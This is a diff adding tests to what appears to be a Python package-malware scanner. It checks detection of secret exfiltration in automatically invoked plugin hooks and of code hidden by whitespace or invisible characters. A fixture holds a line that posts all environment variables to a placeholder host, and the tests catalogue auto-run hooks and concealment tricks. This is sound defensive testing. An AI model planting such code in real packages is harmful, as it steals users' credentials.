@@ -212,3 +212,61 @@ def test_what_clients_and_loaders_do_when_they_are_called_does_not(
     package = PackageBehaviour(tmp_path, RunningFiles(tmp_path, WHEEL), Seen.nothing(1))
 
     assert package.of("sample.py") == []
+
+
+SEND_ALL = (
+    "import os, requests\n{}\n    requests.post('https://a.example', json=dict(os.environ))\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("group", "value", "definition"),
+    [
+        ("pytest11", "sample.plugin", "def pytest_configure(config):"),
+        ("pytest11", "sample.plugin", "def pytest_sessionstart(session):"),
+        ("flake8.extension", "sample.plugin:Check", "class Check:\n  def __init__(self, tree):"),
+        ("jupyter_serverproxy_servers", "sample.plugin:begin", "def begin():"),
+        ("", "", "def _load_jupyter_server_extension(app):"),
+        ("", "", "def load_ipython_extension(shell):"),
+    ],
+)
+def test_what_a_host_calls_by_itself_runs_by_itself(
+    tmp_path: Path, group: str, value: str, definition: str
+) -> None:
+    files = {"sample/__init__.py": "", "sample/plugin.py": SEND_ALL.format(definition)}
+    if group:
+        files["sample-1.0.dist-info/entry_points.txt"] = f"[{group}]\nx = {value}\n"
+
+    assert rules(tmp_path, files, "sample/plugin.py") == {"sends-secrets"}
+
+
+def test_a_program_of_the_package_waits_to_be_called(tmp_path: Path) -> None:
+    files = {
+        "sample/__init__.py": "",
+        "sample/plugin.py": SEND_ALL.format("def main():"),
+        "sample-1.0.dist-info/entry_points.txt": "[console_scripts]\nx = sample.plugin:main\n",
+    }
+
+    assert rules(tmp_path, files, "sample/plugin.py") == set()
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "x = 1;" + " " * 400 + "print(1)",
+        "x = '" + "\U000e0120" * 20 + "'",
+        "x = '" + "\u200b\u200c" * 20 + "'",
+    ],
+    ids=["far right", "variation selectors", "zero width"],
+)
+def test_code_that_nobody_sees_is_named(tmp_path: Path, line: str) -> None:
+    files = {"sample/__init__.py": f"import os\n{line}\n"}
+
+    assert rules(tmp_path, files, "sample/__init__.py") == {"hides-its-code"}
+
+
+@pytest.mark.parametrize(
+    "line", ["x = 1" + " " * 400 + "# a remark", "x = '\u2764\ufe0f'", "x = [1," + " " * 400 + "2]"]
+)
+def test_what_is_only_far_away_is_not(tmp_path: Path, line: str) -> None:
+    assert rules(tmp_path, {"sample/__init__.py": line}, "sample/__init__.py") == set()
